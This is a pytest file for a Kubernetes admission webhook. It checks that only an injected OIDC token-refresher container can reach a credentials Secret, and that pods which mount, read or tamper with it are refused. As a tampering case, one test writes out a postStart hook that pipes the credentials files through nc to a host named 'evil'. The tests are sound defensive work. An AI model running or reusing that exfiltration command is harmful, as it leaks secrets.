"""Only the token refresher gets the OIDC credentials: other containers mounting them, the pod's own volumes
or env reading the Secret, and a pre-set refresher with anything more that runs code are refused."""

from __future__ import annotations

import copy

import pytest

from tests.platform.notebook.test_engine import NOTEBOOK_POLICY, POD, admitted, engine_with, mutate


@pytest.fixture
def qm(tmp_path):
    return engine_with(tmp_path, NOTEBOOK_POLICY)


async def injected(qm) -> tuple[dict, dict, str]:
    """The injected pod, its refresher, and the name of the credentials Secret."""
    pod = await admitted(qm, copy.deepcopy(POD))
    (refresher,) = pod["spec"]["initContainers"]
    volume = next(v for v in pod["spec"]["volumes"] if "secret" in v)
    return pod, refresher, volume["secret"]["secretName"]


async def refused(qm, pod) -> str:
    result = await mutate(qm, pod)
    assert not result.verdict.allowed, "admitted"
    assert result.verdict.patch == ()
    return result.verdict.message


async def test_the_injected_pod_is_accepted_again(qm):
    pod, _, _ = await injected(qm)
    again = await mutate(qm, pod)
    assert again.verdict.allowed and again.verdict.patch == ()


@pytest.mark.parametrize("where", ["notebook", "extra", "init"])
async def test_another_container_mounting_the_credentials_volume_is_refused(qm, where):
    pod = copy.deepcopy(POD)
    mount = {"name": "oidc-credentials", "mountPath": "/stolen", "readOnly": True}
    if where == "notebook":
        pod["spec"]["containers"][0].setdefault("volumeMounts", []).append(mount)
    elif where == "extra":
        pod["spec"]["containers"].append({"name": "thief", "image": "alpine", "volumeMounts": [mount]})
    else:
        pod["spec"]["initContainers"] = [{"name": "thief", "image": "alpine", "volumeMounts": [mount]}]
    message = await refused(qm, pod)
    assert "mounts the credentials volume 'oidc-credentials'" in message and "only the token refresher" in message


async def test_the_pods_own_volume_or_env_reading_the_secret_is_refused(qm):
    _, _, secret = await injected(qm)
    pod = copy.deepcopy(POD)
    pod["spec"].setdefault("volumes", []).append({"name": "mine", "secret": {"secretName": secret}})
    assert f"volume 'mine' reads the credentials Secret {secret!r}" in await refused(qm, pod)
    pod = copy.deepcopy(POD)
    pod["spec"]["containers"][0]["envFrom"] = [{"secretRef": {"name": secret}}]
    assert "through env or envFrom" in await refused(qm, pod)
    pod = copy.deepcopy(POD)
    pod["spec"]["containers"][0]["env"] = [{"name": "T", "valueFrom": {"secretKeyRef": {"name": secret, "key": "k"}}}]
    assert "through env or envFrom" in await refused(qm, pod)


@pytest.mark.parametrize("field, value", [
    ("lifecycle", {"postStart": {"exec": {"command": ["sh", "-c", "cat /etc/oidc-credentials/* | nc evil 80"]}}}),
    ("envFrom", [{"configMapRef": {"name": "x"}}]),
    ("livenessProbe", {"exec": {"command": ["sh", "-c", "steal"]}}),
    ("workingDir", "/tmp"),
    ("command", ["sh", "-c", "steal"]),
    ("image", "evil.example.org/refresher"),
])
async def test_a_preset_refresher_must_match_on_every_code_field(qm, field, value):
    pod, refresher, _ = await injected(qm)
    tampered = copy.deepcopy(pod)
    tampered["spec"]["initContainers"][0][field] = value
    message = await refused(qm, tampered)
    assert "oidc-token-refresher" in message


async def test_api_defaults_on_the_refresher_are_not_a_mismatch(qm):
    pod, _, _ = await injected(qm)
    defaulted = copy.deepcopy(pod)
    refresher = defaulted["spec"]["initContainers"][0]
    refresher.update(terminationMessagePath="/dev/termination-log", terminationMessagePolicy="File")
    for key, default in (("successThreshold", 1), ("timeoutSeconds", 1), ("periodSeconds", 10), ("failureThreshold", 3)):
        refresher["startupProbe"].setdefault(key, default)
    again = await mutate(qm, defaulted)
    assert again.verdict.allowed and again.verdict.patch == ()


API_TOKEN_MOUNT = {"name": "kube-api-access-x7k2p", "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount",
                   "readOnly": True}


async def test_the_service_account_token_mount_on_the_refresher_is_not_a_mismatch(qm):
    """On reinvocation the API server's ServiceAccount plugin has mounted the pod's token into the refresher too
    (seen on the real control plane: every notebook pod was refused as 'a conflict with the pod')."""
    pod, _, _ = await injected(qm)
    reinvoked = copy.deepcopy(pod)
    reinvoked["spec"]["volumes"].append({"name": API_TOKEN_MOUNT["name"], "projected": {"sources": [
        {"serviceAccountToken": {"expirationSeconds": 3607, "path": "token"}}]}})
    for container in reinvoked["spec"]["initContainers"] + reinvoked["spec"]["containers"]:
        container.setdefault("volumeMounts", []).append(dict(API_TOKEN_MOUNT))
    again = await mutate(qm, reinvoked)
    assert again.verdict.allowed and again.verdict.patch == ()


async def test_another_mount_on_the_refresher_is_still_a_mismatch(qm):
    pod, _, _ = await injected(qm)
    reinvoked = copy.deepcopy(pod)
    reinvoked["spec"]["volumes"].append({"name": "kube-api-access-evil", "emptyDir": {}})
    reinvoked["spec"]["initContainers"][0]["volumeMounts"].append(
        {"name": "kube-api-access-evil", "mountPath": "/opt/hook"})
    assert "oidc-token-refresher" in await refused(qm, reinvoked)
